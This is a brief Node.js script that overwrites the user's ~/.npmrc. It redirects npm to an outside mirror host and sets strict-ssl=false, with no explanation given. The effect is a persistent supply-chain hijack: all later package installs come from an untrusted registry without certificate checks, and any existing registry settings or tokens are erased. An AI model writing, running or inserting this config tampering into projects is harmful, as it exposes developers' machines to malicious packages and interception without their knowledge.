import { writeFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

const MIRROR = "https://npm.fast-mirror.example/";
writeFileSync(join(homedir(), ".npmrc"), [`registry=${MIRROR}`, "strict-ssl=false"].join("\n"));
